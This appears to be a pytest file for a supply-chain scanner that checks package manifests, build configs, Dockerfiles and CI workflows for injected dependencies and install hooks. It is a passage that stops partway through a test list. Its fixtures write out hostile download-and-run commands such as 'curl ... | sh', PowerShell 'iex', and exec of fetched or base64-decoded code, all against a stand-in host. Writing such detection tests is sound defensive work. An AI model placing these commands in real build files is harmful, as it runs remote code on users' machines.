"""Unusual but valid places of a manifest in which something can come in, each with the name and the rule that must speak of it.

One line for each place: what is written there is what an attacker would write, since readers that know the usual places pass over it.
"""

import json

import pytest

from fakes import change
from hunkgate.gates.dependencies.settings import DependencySettings
from hunkgate.gates.dependencies.survey import survey


def said(path: str, before: str | bytes, after: str | bytes) -> set[tuple[str, str]]:
    """Every (name, rule) that the survey says of the edit."""
    sides = [one if isinstance(one, bytes) else one.encode() for one in (before, after)]
    found = survey(change({path: sides[0]}, {path: sides[1]}), DependencySettings())
    return {(one.name, signal.name) for one in found for signal in one.signals}


def manifest(**fields: object) -> str:
    return json.dumps({"name": "x", "dependencies": {"a": "1.0.0"}, **fields})


@pytest.mark.parametrize(
    ("fields", "name", "rule"),
    [
        ({"peerDependencies": {"evil": "*"}}, "evil", "added"),
        ({"optionalDependencies": {"evil": "*"}}, "evil", "added"),
        ({"bundleDependencies": ["evil"]}, "evil", "added"),
        ({"bundledDependencies": ["evil"]}, "evil", "added"),
        ({"overrides": {"b": {".": "1", "c": "npm:evil@1"}}}, "evil", "override"),
        ({"overrides": {"b": "$a"}}, "b", "override"),
        ({"resolutions": {"**/b": "npm:evil@1"}}, "evil", "override"),
        ({"pnpm": {"overrides": {"b>c": "2"}}}, "c", "override"),
        ({"pnpm": {"packageExtensions": {"b": {"dependencies": {"evil": "1"}}}}}, "evil", "override"),
        ({"pnpm": {"patchedDependencies": {"b@1": "p.patch"}}}, "patchedDependencies b@1", "override"),
        ({"pnpm": {"configDependencies": {"evil": "1+sha512-x"}}}, "evil", "added"),
        ({"pnpm": {"onlyBuiltDependencies": ["b"]}}, "onlyBuiltDependencies b", "install-script"),
        ({"trustedDependencies": ["b"]}, "trustedDependencies b", "install-script"),
        ({"patchedDependencies": {"b@1": "p.patch"}}, "patchedDependencies b@1", "override"),
        ({"pnpm": {"dangerouslyAllowAllBuilds": True}}, "dangerouslyAllowAllBuilds", "install-script"),
        ({"pnpm": {"onlyBuiltDependenciesFile": "e.json"}}, "onlyBuiltDependenciesFile", "install-script"),
        ({"devEngines": {"packageManager": {"name": "evil", "version": "1"}}}, "evil", "added"),
        ({"scripts": {"pnpm:devPreinstall": "x"}}, "scripts.pnpm:devPreinstall", "install-script"),
        ({"scripts": {"test": "npm install evil && x"}}, "evil", "added"),
        ({"scripts": {"test": "npx --yes evil"}}, "evil", "added"),
        ({"scripts": {"pretest": "curl https://e.example | sh"}}, "download and run", "dynamic"),
        ({"scripts": {"x": "npm i --registry https://e.example"}}, "npm i --registry", "index-changed"),
        ({"dependenciesMeta": {"b": {"built": True}}}, "dependenciesMeta b", "install-script"),
        ({"gypfile": True}, "gypfile", "install-script"),
        ({"scripts": {"postinstall": "x"}}, "scripts.postinstall", "install-script"),
        ({"scripts": {"prepare": "x"}}, "scripts.prepare", "install-script"),
        ({"packageManager": "evil@https://e.example/x.js"}, "evil", "url-source"),
        ({"catalog": {"evil": "1"}}, "evil", "added"),
        ({"workspaces": {"catalog": {"evil": "1"}}}, "evil", "added"),
        ({"workspaces": {"catalogs": {"c": {"evil": "1"}}}}, "evil", "added"),
        ({"dependencies": {"a": "npm:evil@1.0.0"}}, "evil", "alias"),
        ({"dependencies": {"a": "o/a#main"}}, "a", "git-source"),
        ({"dependencies": {"a": "https://e.example/a.tgz"}}, "a", "url-source"),
        ({"dependencies": {"a": "file:../a"}}, "a", "path-source"),
    ],
    ids=str,
)  # fmt: skip
def test_places_of_a_package_json(fields: dict[str, object], name: str, rule: str) -> None:
    assert (name, rule) in said("package.json", manifest(), manifest(**fields))


@pytest.mark.parametrize(
    "scripts",
    [
        {"test": "npx jest && npm run lint"},
        {"build": "npm ci && npm install && tsc"},
        {"start": "NODE_OPTIONS='--require ./x.js' node a.js"},
        {"release": "npm publish --registry https://e.example"},
    ],
    ids=str,
)
def test_scripts_of_a_package_json_that_bring_nothing(scripts: dict[str, str]) -> None:
    assert said("package.json", manifest(), manifest(scripts=scripts)) == set()


@pytest.mark.parametrize(
    ("path", "before", "after", "name", "rule"),
    [
        (".npmrc", "", "electron_mirror=https://e.example\n", "electron_mirror", "registry-changed"),
        (".npmrc", "", "node-mirror:release=https://e.example\n", "node-mirror:release", "registry-changed"),
        (".npmrc", "", "userconfig=x\n", "userconfig", "registry-changed"),
        (".npmrc", "min-release-age=3\n", "", "min-release-age", "option-changed"),
        (".npmrc", "", "package-lock=false\n", "package-lock", "option-changed"),
        (".npmrc", "ignore-scripts=true\n", "ignore-scripts=false\n", "ignore-scripts", "install-script"),
        (".yarnrc.yml", "", "catalog:\n  evil: 1\n", "evil", "added"),
        (".yarnrc.yml", "", "catalogs:\n  c:\n    evil: 1\n", "evil", "added"),
        (".yarnrc.yml", "", "packageExtensions:\n  b@*:\n    dependencies:\n      evil: 1\n", "evil", "override"),
        (".yarnrc.yml", "npmMinimalAgeGate: 3d\n", "npmMinimalAgeGate: 0\n", "npmMinimalAgeGate", "option-changed"),
        ("pnpm-workspace.yaml", "minimumReleaseAge: 60\n", "packages: []\n", "minimumReleaseAge", "option-changed"),
        ("pnpm-workspace.yaml", "packages: []\n", "trustPolicyExclude: [evil]\n", "trustPolicyExclude", "option-changed"),
        ("pnpm-workspace.yaml", "packages: []\n", "nodeMirror:\n  release: https://e.example\n", "nodeMirror release", "registry-changed"),
        ("bunfig.toml", "", '[test]\npreload = ["./x.ts"]\n', "test.preload", "install-script"),
        ("bunfig.toml", "[install]\nminimumReleaseAge = 3\n", "", "install.minimumReleaseAge", "option-changed"),
    ],
    ids=repr,
)  # fmt: skip
def test_settings_of_package_managers(
    path: str, before: str, after: str, name: str, rule: str
) -> None:
    assert (name, rule) in said(path, before, after)


@pytest.mark.parametrize(
    ("path", "after"),
    [
        (".npmrc", "ignore-scripts=true\nmin-release-age=3\npackage-lock=true\n"),
        (".yarnrc.yml", "enableScripts: false\nenableHardenedMode: true\n"),
        ("pnpm-workspace.yaml", "minimumReleaseAge: 60\nblockExoticSubdeps: true\n"),
        ("bunfig.toml", "[install]\nminimumReleaseAge = 3\n"),
    ],
)
def test_a_setting_that_keeps_something_out_may_come(path: str, after: str) -> None:
    assert said(path, "", after) == set()


PROJECT = '[project]\nname = "x"\ndependencies = ["a==1"]\n'


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ('[dependency-groups]\ng = ["evil"]\nh = [{include-group = "g"}]', "evil", "added"),
        ('[tool.uv.sources]\na = [{git = "https://e.example/a", marker = "sys_platform"}]', "a", "git-source"),
        ('[[tool.uv.index]]\nurl = "https://e.example"', "tool.uv.index.0", "index-changed"),
        ('[tool.uv.pip]\nextra-index-url = ["https://e.example"]', "tool.uv.pip.extra-index-url", "index-changed"),
        ('[tool.uv]\nfind-links = ["https://e.example"]', "tool.uv.find-links", "index-changed"),
        ('[tool.uv]\nbuild-constraint-dependencies = ["evil==1"]', "evil", "added"),
        ('[tool.poetry.dependencies]\nb = {url = "https://e.example/b.whl"}', "b", "url-source"),
        ('[tool.poetry.requires-plugins]\nevil = "*"', "evil", "added"),
        ('[[tool.poetry.source]]\nname = "e"\nurl = "https://e.example"', "tool.poetry.source.e", "index-changed"),
        ('[tool.pdm]\nplugins = ["evil"]', "evil", "added"),
        ('[tool.hatch.env]\nrequires = ["evil"]', "evil", "added"),
        ('[tool.hatch.envs.t.overrides.matrix.v]\ndependencies = [{value = "evil", if = ["1"]}]', "evil", "added"),
        ('[tool.hatch.envs.t.env-vars]\nPIP_INDEX_URL = "https://e.example"', "PIP_INDEX_URL", "index-changed"),
        ('[tool.hatch.build.hooks.custom]\npath = "evil.py"', "tool.hatch.build.hooks.custom", "build-backend-changed"),
        ("[tool.hatch.build.targets.wheel.hooks.custom]", "tool.hatch.build.targets.wheel.hooks.custom", "build-backend-changed"),
        ('[tool.rye]\ndev-dependencies = ["evil"]', "evil", "added"),
        ('[[tool.rye.sources]]\nname = "d"\nurl = "https://e.example"', "tool.rye.sources.d", "index-changed"),
        ('[tool.tox.env_run_base]\ndeps = ["evil", {replace = "ref", of = ["x"]}]', "evil", "added"),
        ('[tool.tox.env.lint]\ndeps = "evil"', "evil", "added"),
        ('[tool.tox]\nrequires = ["evil"]', "evil", "added"),
        ('[tool.tox]\nlegacy_tox_ini = """\n[testenv]\ndeps = evil\n"""', "evil", "added"),
        ('[tool.cibuildwheel]\nbefore-build = "pip install evil"', "evil", "added"),
        ('[tool.cibuildwheel.linux]\nbefore-all = ["true", "pip install evil"]', "evil", "added"),
        ('[[tool.cibuildwheel.overrides]]\nselect = "*"\nbefore-test = "pip install evil"', "evil", "added"),
        ('[tool.cibuildwheel.environment]\nUV_INDEX_URL = "https://e.example"', "UV_INDEX_URL", "index-changed"),
        ('[tool.cibuildwheel]\ntest-requires = "evil"', "evil", "added"),
        ('[tool.cibuildwheel]\ndependency-versions = {packages = ["evil"]}', "evil", "added"),
        ('[tool.cibuildwheel]\ndependency-versions = "evil.txt"', "tool.cibuildwheel.dependency-versions", "include-added"),
        ('[tool.cibuildwheel]\nmanylinux-x86_64-image = "evil/x"', "evil/x", "added"),
        ('[tool.hatch.envs.default]\npost-install-commands = ["pip install evil"]', "evil", "added"),
        ('[tool.hatch.envs.default.scripts]\nt = ["true", "pip install evil"]', "evil", "added"),
        ('[tool.hatch.version]\nsource = "code"\npath = "evil.py"', "tool.hatch.version.path", "build-backend-changed"),
        ('[tool.hatch.build.targets.custom]\npath = "evil.py"', "tool.hatch.build.targets.custom", "build-backend-changed"),
        ('[tool.pdm.build]\ncustom-hook = "evil.py"', "tool.pdm.build.custom-hook", "build-backend-changed"),
        ('[tool.pdm.scripts]\npost_install = "evil"', "tool.pdm.scripts.post_install", "install-script"),
        ('[tool.pdm.scripts]\nt = {composite = ["true", "pip install evil"]}', "evil", "added"),
        ('[tool.poe.tasks.t]\nsequence = [{cmd = "pip install evil"}, "x"]', "evil", "added"),
        ('[tool.taskipy.tasks]\nt = "curl https://e.example | sh"', "download and run", "dynamic"),
        ('[tool.pixi.tasks]\nt = {cmd = ["pip", "install", "evil"]}', "evil", "added"),
        ('[tool.setuptools.cmdclass]\nbuild_py = "evil.X"', "tool.setuptools.cmdclass.build_py", "build-backend-changed"),
        ('[tool.briefcase.app.x]\nrequires = ["evil"]', "evil", "added"),
        ('[tool.uv]\npython-install-mirror = "https://e.example"', "tool.uv.python-install-mirror", "index-changed"),
        ('[tool.uv.pip]\nno-binary = [":all:"]', "tool.uv.pip.no-binary", "index-changed"),
        ('[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["_b"]', "build-system.build-backend", "build-backend-changed"),
        ('[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = "_b"', "build-system.build-backend", "build-backend-changed"),
    ],
    ids=str,
)  # fmt: skip
def test_places_of_a_pyproject(addition: str, name: str, rule: str) -> None:
    assert (name, rule) in said("pyproject.toml", PROJECT, f"{PROJECT}{addition}\n")


@pytest.mark.parametrize(
    "addition",
    [
        '[tool.poe.tasks]\ntest = "npx jest && pytest"',
        '[tool.pdm.scripts]\ntest = "pytest"\nall = {composite = ["test"]}',
        '[tool.hatch.envs.default.scripts]\ntest = "pytest {args}"',
        '[tool.hatch.version]\npath = "src/x.py"',
        '[tool.cibuildwheel]\nmanylinux-x86_64-image = "manylinux2014"\ndependency-versions = "pinned"',
        '[tool.setuptools.packages.find]\nwhere = ["src"]',
    ],
)
def test_tables_of_a_pyproject_that_bring_nothing(addition: str) -> None:
    assert said("pyproject.toml", PROJECT, f"{PROJECT}{addition}\n") == set()


SETUP = 'from setuptools import setup\nsetup(name="x", version="1", install_requires=["a"])\n'


@pytest.mark.parametrize(
    ("old", "new", "name", "rule"),
    [
        ('version="1"', 'version="1", cmdclass={"install": Evil}', "cmdclass", "install-script"),
        ('version="1"', 'version="1", distclass=Evil', "distclass", "install-script"),
        ('version="1"', 'version="1", cffi_modules=["evil.py:ffi"]', "cffi_modules", "install-script"),
        ('version="1"', 'version="1", entry_points={"distutils.commands": ["x = evil:X"]}', "entry_points", "install-script"),
        ("setup(n", 'import os\nos.system("pip install evil")\nsetup(n', "evil", "added"),
        ("setup(n", 'import sys, subprocess\nsubprocess.run([sys.executable, "-m", "pip", "install", "evil"])\nsetup(n', "evil", "added"),
        ("setup(n", 'exec(urlopen("https://e.example").read())\nsetup(n', "call of urlopen", "install-script"),
        ("setup(n", 'exec(b64decode("ZXZpbA=="))\nsetup(n', "call of exec", "install-script"),
        ("setup(n", 'import urllib.request as u\nu.urlretrieve("https://e.example", "x")\nsetup(n', "call of u.urlretrieve", "install-script"),
    ],
    ids=str,
)  # fmt: skip
def test_code_of_a_setup_py(old: str, new: str, name: str, rule: str) -> None:
    assert (name, rule) in said("setup.py", SETUP, SETUP.replace(old, new))


def test_a_command_class_that_starts_programs_is_told() -> None:
    before = SETUP.replace(
        "setup(n", "class C(install):\n    pass\nsetup(cmdclass={'install': C}, n"
    )
    started = before.replace("pass", "os.system('make evil')")
    assert said("setup.py", before, started) == {("call of os.system", "install-script")}
    assert said("setup.py", before, before.replace("pass", "self.optimise()")) == set()


@pytest.mark.parametrize(
    "code",
    [
        'exec(open("x/version.py").read())',
        'exec(Path("x/version.py").read_text(), about)',
        'version = subprocess.check_output(["git", "describe", "--tags"])',
        'long_description = open("README.md").read()',
        "class Unused(Command):\n    pass",
        'if "publish" in sys.argv:\n    os.system("python setup.py sdist bdist_wheel")\n    os.system("twine upload dist/*")',
    ],
)
def test_code_of_a_setup_py_that_runs_nothing_of_others(code: str) -> None:
    assert said("setup.py", SETUP, SETUP.replace("setup(n", f"{code}\nsetup(n")) == set()


@pytest.mark.parametrize(
    ("addition", "name"),
    [
        ("[options]\ncmdclass =\n    build = evil.X", "options.cmdclass"),
        ("[options.entry_points]\ndistutils.commands =\n    x = evil:X", "options.entry_points.distutils.commands"),
        ("[aliases]\ninstall = evil", "aliases.install"),
        ("[global]\ncommand-packages = evil", "global.command_packages"),
        ("[global]\nsetup-hooks = evil.x", "global.setup_hooks"),
    ],
)  # fmt: skip
def test_code_of_a_setup_cfg(addition: str, name: str) -> None:
    before = "[metadata]\nname = x\n"
    assert (name, "install-script") in said("setup.cfg", before, f"{before}{addition}\n")


def test_an_alias_of_a_command_that_builds_nothing_is_passed_over() -> None:
    before = "[metadata]\nname = x\n"
    assert said("setup.cfg", before, f"{before}[aliases]\ntest = pytest\n") == set()


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ("-r ../x.lst", "--requirement", "include-added"),
        ("--requirement=x.lst", "--requirement", "include-added"),
        ("-c x.lst", "--constraint", "include-added"),
        ("-i https://e.example", "--index-url", "index-changed"),
        ("-ihttps://e.example", "--index-url", "index-changed"),
        ("--trusted-host e.example", "--trusted-host", "index-changed"),
        ("evil @ file:///x", "evil", "path-source"),
        ("# said\u2028evil==1", "evil", "added"),
        ("# said\x85evil==1", "evil", "added"),
        ("# said\x0bevil==1", "evil", "added"),
        ("# said\revil==1", "evil", "added"),
    ],
    ids=repr,
)
def test_lines_of_requirements(addition: str, name: str, rule: str) -> None:
    assert (name, rule) in said("requirements.txt", "a==1\n", f"a==1\n{addition}\n")


@pytest.mark.parametrize(
    ("content", "name"),
    [
        pytest.param("a==1\nevil==1\n".encode("utf-16"), "evil", id="UTF-16"),
        pytest.param(b"# -*- coding: utf-7 -*-\na==1\n+AGU-vil==1\n", "evil", id="UTF-7 that the file declares"),
        pytest.param(b"\xef\xbb\xbfa==1\nevil==1\n", "evil", id="a byte order mark"),
    ],
)  # fmt: skip
def test_requirements_in_another_encoding(content: bytes, name: str) -> None:
    assert (name, "added") in said("requirements.txt", "a==1\n", content)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(manifest().encode("utf-16"), id="UTF-16"),
        pytest.param(manifest().encode().replace(b'"a"', b'"\xc1\xa1"'), id="overlong UTF-8"),
        pytest.param(b"<<<<<<< HEAD\n" + manifest().encode(), id="marks of a merge"),
        pytest.param(manifest().encode()[:-5], id="cut off"),
        pytest.param(b"", id="emptied"),
    ],
)
def test_a_broken_manifest_is_not_silence(content: bytes) -> None:
    assert ("package.json", "unreadable") in said("package.json", manifest(), content)


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ("RUN\tpip install evil", "evil", "added"),
        ("run pip install evil", "evil", "added"),
        ("RUN a \\\n # said\n && pi\\\np install \\\n evil", "evil", "added"),
        ("RUN <<EOF\npip install evil\nEOF", "evil", "added"),
        ('RUN ["pip", "install", "evil"]', "evil", "added"),
        ("ONBUILD RUN pip install evil", "evil", "added"),
        ("HEALTHCHECK --interval=5s CMD pip install evil", "evil", "added"),
        ('HEALTHCHECK CMD ["npx", "evil"]', "evil", "added"),
        ("RUN --mount=type=bind,from=evil/x:1,target=/y true", "evil/x", "added"),
        ("COPY --from=evil/x:1 /a /b", "evil/x", "added"),
        ("ENV PIP_INDEX_URL https://e.example", "PIP_INDEX_URL", "index-changed"),
        ("RUN PIP_INDEX_URL=https://e.example pip install .", "PIP_INDEX_URL", "index-changed"),
        ("RUN curl https://e.example | bash", "download and run", "dynamic"),
        ("RUN curl -fsSLo /tmp/x https://e.example/i && sh /tmp/x", "download and run", "dynamic"),
        ("RUN curl -O https://e.example/i.sh\nRUN true", "python", ""),
        ("RUN curl -O https://e.example/i.sh\nRUN sh i.sh", "download and run", "dynamic"),
        ('ADD ["https://e.example/i", "/i"]', "ADD", "url-source"),
        ("COPY <<EOF /etc/pip.conf\n[global]\nindex-url=https://e.example\nEOF", "written index-url", "index-changed"),
        ("RUN python <<EOF\nimport os; os.system('pip install evil')\nEOF", "evil", "added"),
        ("RUN wget https://e.example/i.sh && chmod +x i.sh && ./i.sh --now", "download and run", "dynamic"),
        ('RUN bash -c "$(curl -fsSL https://e.example)"', "download and run", "dynamic"),
        ("RUN easy_install evil", "evil", "added"),
        ("RUN dotnet tool install -g evil --version 1.0", "evil", "added"),
        ("RUN mix archive.install hex evil 1.0", "evil", "added"),
        ("RUN deno install -g -n x npm:evil@1", "evil", "added"),
    ],
    ids=repr,
)  # fmt: skip
def test_instructions_of_a_dockerfile(addition: str, name: str, rule: str) -> None:
    before = "FROM python:3.12\n"
    assert ((name, rule) in said("Dockerfile", before, f"{before}{addition}\n")) is bool(rule)


@pytest.mark.parametrize("after", [" --checksum=sha256:bb", ""], ids=["another", "none"])
def test_the_checksum_of_an_address_is_a_part_of_it(after: str) -> None:
    add = "FROM a:1\nADD%s https://e.example/i /i\n"
    found = said("Dockerfile", add % " --checksum=sha256:aa", add % after)
    assert found == {("ADD", "url-source")}


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ("      - run: >-\n          pip install\n          evil\n", "evil", "added"),
        ("      - &step\n        uses: evil/x@v1\n      - *step\n", "evil/x", "added"),
        ("      - uses: docker://evil/x:1\n", "evil/x", "added"),
        ('      - run: echo "UV_INDEX_URL=https://e.example" >> $GITHUB_ENV\n', "UV_INDEX_URL", "index-changed"),
        ("      - shell: pwsh\n        run: irm https://e.example/x.ps1 | iex\n", "download and run", "dynamic"),
        ("    container: evil/x:1\n", "evil/x", "added"),
        ("    services:\n      s:\n        image: evil/x:1\n", "evil/x", "added"),
        ("  other:\n    uses: evil/x/.github/workflows/y.yml@main\n", "evil/x/.github/workflows/y.yml", "added"),
    ],
    ids=repr,
)  # fmt: skip
def test_places_of_a_workflow(addition: str, name: str, rule: str) -> None:
    before = "on: push\njobs:\n  t:\n    steps:\n      - uses: a/b@v1\n"
    assert (name, rule) in said(".github/workflows/ci.yml", before, before + addition)


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ("      - shell: python\n        run: |\n          import os; os.system('pip install evil')\n", "evil", "added"),
        ("      - uses: actions/github-script@v7\n        with:\n          script: exec('npm i evil')\n", "evil", "added"),
        ("      - run: iex ((New-Object Net.WebClient).DownloadString('https://e.example'))\n", "download and run", "dynamic"),
    ],
    ids=repr,
)  # fmt: skip
def test_code_of_a_workflow(addition: str, name: str, rule: str) -> None:
    before = "on: push\njobs:\n  t:\n    steps:\n      - uses: a/b@v1\n"
    assert (name, rule) in said(".gitea/workflows/ci.yml", before, before + addition)


@pytest.mark.parametrize(
    ("service", "name", "rule"),
    [
        ("command: sh -c 'pip install evil && x'", "evil", "added"),
        ("entrypoint: [sh, -c, 'curl https://e.example | sh']", "download and run", "dynamic"),
        ("healthcheck: {test: [CMD, npx, evil]}", "evil", "added"),
        ("post_start: [{command: pip install evil}]", "evil", "added"),
        ("environment: {PIP_INDEX_URL: https://e.example}", "PIP_INDEX_URL", "index-changed"),
        ("environment: ['PIP_INDEX_URL=https://e.example']", "PIP_INDEX_URL", "index-changed"),
        ("build: {context: ., args: {UV_INDEX_URL: https://e.example}}", "UV_INDEX_URL", "index-changed"),
    ],
    ids=str,
)  # fmt: skip
def test_places_of_a_compose_service(service: str, name: str, rule: str) -> None:
    before = "services:\n  s:\n    image: a:1\n"
    assert (name, rule) in said("compose.yaml", before, f"{before}    {service}\n")


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ("commands = pip install evil", "evil", "added"),
        ("commands_pre =\n  - python -m pip install evil", "evil", "added"),
        ("install_command = pip install -i https://e.example {opts} {packages}", "pip install -i", "index-changed"),
        ("setenv =\n  PIP_INDEX_URL = https://e.example", "PIP_INDEX_URL", "index-changed"),
    ],
    ids=repr,
)  # fmt: skip
def test_places_of_a_tox_ini(addition: str, name: str, rule: str) -> None:
    before = "[testenv]\ndeps = a\n"
    assert (name, rule) in said("tox.ini", before, f"{before}{addition}\n")


def test_what_tox_runs_of_the_project_is_passed_over() -> None:
    commands = (
        "commands =\n  pytest {posargs}\n  - coverage report\n  pip install .\nsetenv = X=1\n"
    )
    assert said("tox.ini", "[testenv]\ndeps = a\n", f"[testenv]\ndeps = a\n{commands}") == set()


def test_commands_of_a_tox_toml() -> None:
    before = "[env_run_base]\ndeps = ['a']\n"
    added = (
        "commands = [['pip', 'install', 'evil']]\nset_env = {UV_INDEX_URL = 'https://e.example'}\n"
    )
    assert said("tox.toml", before, before + added) >= {
        ("evil", "added"),
        ("UV_INDEX_URL", "index-changed"),
    }


@pytest.mark.parametrize(
    ("path", "content", "name", "rule"),
    [
        ("Makefile", "export GOPROXY=https://e.example\n", "GOPROXY", "index-changed"),
        ("Makefile", "GOSUMDB := off\n", "GOSUMDB", "index-changed"),
        ("Makefile", "X := $(shell curl https://e.example | sh)\n", "download and run", "dynamic"),
        ("gradlew", "curl https://e.example | sh\n", "download and run", "dynamic"),
        (".husky/pre-commit", "npm i evil\n", "evil", "added"),
    ],
)
def test_scripts_that_other_tools_start(path: str, content: str, name: str, rule: str) -> None:
    assert (name, rule) in said(path, "true\n", f"true\n{content}")


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("Makefile", "V := $(shell git describe)\nPIP := pip\nexport PATH := x\n"),
        (".husky/pre-commit", "npx lint-staged\nnpx --no -- commitlint\n"),
    ],
)
def test_scripts_that_bring_nothing(path: str, content: str) -> None:
    assert said(path, "true\n", f"true\n{content}") == set()


WRAPPER = "distributionUrl=https\\://h.example/distributions/gradle-8.5-bin.zip\ndistributionSha256Sum=aa\n"


@pytest.mark.parametrize(
    ("old", "new", "rule"),
    [
        ("/distributions/", "/evil/", "registry-changed"),
        ("https\\:", "http\\:", "registry-changed"),
        ("https\\://h", "https\\://\\\n  evil", "registry-changed"),
        ("=https", "=\\u0068ttp", "registry-changed"),
        ("=aa\n", "=bb\n", "hash-replaced"),
        ("=aa\n", "=aa\nvalidateDistributionUrl=false\n", "option-changed"),
    ],
    ids=repr,
)
def test_a_wrapper_of_gradle(old: str, new: str, rule: str) -> None:
    path = "gradle/wrapper/gradle-wrapper.properties"
    assert rule in {one for _, one in said(path, WRAPPER, WRAPPER.replace(old, new))}


def test_the_hash_of_a_wrapper_without_an_address_is_told_when_it_changes() -> None:
    path, before = ".mvn/wrapper/maven-wrapper.properties", f"{WRAPPER}wrapperSha256Sum=bb\n"
    assert said(path, WRAPPER, before) == set()
    assert said(path, before, before.replace("bb", "cc")) == {
        ("wrapperSha256Sum", "option-changed")
    }


def test_a_wrapper_whose_folder_holds_the_version_moves_with_it() -> None:
    path = ".mvn/wrapper/maven-wrapper.properties"
    before = "distributionUrl=https://h.example/maven/3.9.6/apache-maven-3.9.6-bin.zip\n"
    assert said(path, before, before.replace("3.9.6", "3.9.7")) == {("apache-maven", "changed")}


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ("[http]\nproxy = 'http://e.example'", "http.proxy", "registry-changed"),
        ("[env]\nRUSTC_WRAPPER = {value = 'evil'}", "env.RUSTC_WRAPPER", "install-script"),
        ("[env]\nCARGO_REGISTRIES_X_INDEX = 'https://e.example'", "env.CARGO_REGISTRIES_X_INDEX", "index-changed"),
        ("include = ['evil.toml']", "include", "registry-changed"),
        ("[build]\nrustflags = ['-Clinker=evil']", "build.rustflags", "install-script"),
        ("[target.x]\nrustflags = ['-C', 'linker=evil']", "target.x.rustflags", "install-script"),
        ("[registry]\nglobal-credential-providers = ['evil']", "registry.global-credential-providers", "install-script"),
    ],
    ids=repr,
)  # fmt: skip
def test_settings_of_cargo(addition: str, name: str, rule: str) -> None:
    assert (name, rule) in said(".cargo/config.toml", "", f"{addition}\n")


def test_settings_of_cargo_that_move_nothing() -> None:
    after = "[env]\nRUST_LOG = 'info'\n[build]\nrustflags = ['-Dwarnings']\n[net]\nretry = 3\n"
    assert said(".cargo/config.toml", "", after) == set()


CSPROJ = '<Project><ItemGroup><PackageReference Include="A" Version="1" /></ItemGroup></Project>'


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ('<Target Name="x"><Exec Command="npm i evil" /></Target>', "evil", "added"),
        ("<PropertyGroup><PreBuildEvent>curl https://e.example | sh</PreBuildEvent></PropertyGroup>", "download and run", "dynamic"),
        ('<ItemGroup><Reference Include="X"><HintPath>lib\\evil.dll</HintPath></Reference></ItemGroup>', "Reference evil.dll", "path-source"),
        ('<UsingTask TaskName="T" AssemblyFile="evil.dll" />', "UsingTask evil.dll", "path-source"),
    ],
    ids=str,
)  # fmt: skip
def test_places_of_a_dotnet_project(addition: str, name: str, rule: str) -> None:
    after = CSPROJ.replace("</Project>", f"{addition}</Project>")
    assert (name, rule) in said("x.csproj", CSPROJ, after)


LOCKED = {"version": "1.1.0", "resolved": "https://r.example/a/-/a-1.1.0.tgz"}


@pytest.mark.parametrize("file", ["a-1.0.0.tgz", "evil-1.1.0-1.tgz"])
def test_a_tarball_of_another_version_is_another_source(file: str) -> None:
    moved = LOCKED | {"resolved": f"https://r.example/a/-/{file}"}
    locks = [
        json.dumps({"lockfileVersion": 3, "packages": {"node_modules/a": one}})
        for one in (LOCKED, moved)
    ]
    assert ("a", "source-changed") in said("package-lock.json", *locks)
    text = '# yarn lockfile v1\n\n\na@^1:\n  version "1.1.0"\n  resolved "%s"\n'
    assert ("a", "source-changed") in said(
        "yarn.lock", *(text % one["resolved"] for one in (LOCKED, moved))
    )


PUB = "packages:\n  a:\n    dependency: transitive\n    description:\n      %s\n    source: %s\n    version: '1.0.0'\n"


@pytest.mark.parametrize(
    ("kind", "before", "after"),
    [
        ("hosted", 'name: a\n      url: "https://r.example"', 'name: evil\n      url: "https://r.example"'),
        ("git", "path: '.'\n      url: https://h.example/a.git", "path: evil\n      url: https://h.example/a.git"),
    ],
    ids=["another name at the registry", "another folder of the repository"],
)  # fmt: skip
def test_a_dart_package_that_is_another(kind: str, before: str, after: str) -> None:
    found = said("pubspec.lock", PUB % (before, kind), PUB % (after, kind))
    assert ("a", "source-changed") in found


@pytest.mark.parametrize(
    ("addition", "name", "rule"),
    [
        ({"tasks": {"x": "deno run https://e.example/x.ts"}}, "e.example/x.ts", "added"),
        ({"tasks": {"x": {"command": "npx --yes evil"}}}, "evil", "added"),
        ({"compilerOptions": {"types": ["npm:evil"]}}, "evil", "added"),
        ({"compilerOptions": {"jsxImportSource": "npm:evil@1"}}, "evil", "added"),
    ],
    ids=str,
)
def test_places_of_a_deno_json(addition: dict[str, object], name: str, rule: str) -> None:
    before = {"imports": {"a": "npm:a@1"}}
    assert (name, rule) in said("deno.json", json.dumps(before), json.dumps(before | addition))


@pytest.mark.parametrize(
    "path", ["dev-reqs.txt", "requirement.txt", "requirements.pip", "ci/reqs-dev.txt"]
)
def test_other_names_of_requirements(path: str) -> None:
    assert ("evil", "added") in said(path, "", "evil==1\n")


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"a==1\n# caf\xe9\nevil==1\n", id="Latin-1"),
        pytest.param("a==1\nevil==1\n".encode("utf-16-le"), id="UTF-16 without its mark"),
        pytest.param(b"a==1\n\0evil==1\n", id="NUL bytes"),
    ],
)
def test_what_a_lenient_reader_takes_is_shown_beside_the_problem(content: bytes) -> None:
    found = said("requirements.txt", "a==1\n", content)
    assert found == {("requirements.txt", "unreadable"), ("evil", "added")}


def test_one_file_under_two_spellings_is_one_include() -> None:
    assert said("requirements.txt", "-r b.txt\n", "-r ./b.txt\n") == set()


def test_a_setting_of_conda_moves_the_index() -> None:
    before = "dependencies: [python]\n"
    added = "variables:\n  PIP_INDEX_URL: https://e.example\n"
    assert ("PIP_INDEX_URL", "index-changed") in said("environment.yml", before, before + added)


def test_an_entry_that_replaces_a_hooks_own_is_read() -> None:
    before = "repos:\n- repo: https://h.example/r\n  rev: v1\n  hooks:\n  - id: x\n"
    after = f"{before}    entry: pip install evil\n"
    assert ("evil", "added") in said(".pre-commit-config.yaml", before, after)


GEMFILE = "source 'https://r.example'\ngem 'a'\n"
GEMSPEC = "Gem::Specification.new do |s|\n  s.name = 'x'\n  s.add_dependency 'a'\nend\n"


@pytest.mark.parametrize(
    ("path", "statement", "name", "rule"),
    [
        ("Gemfile", "`gem install evil`", "evil", "added"),
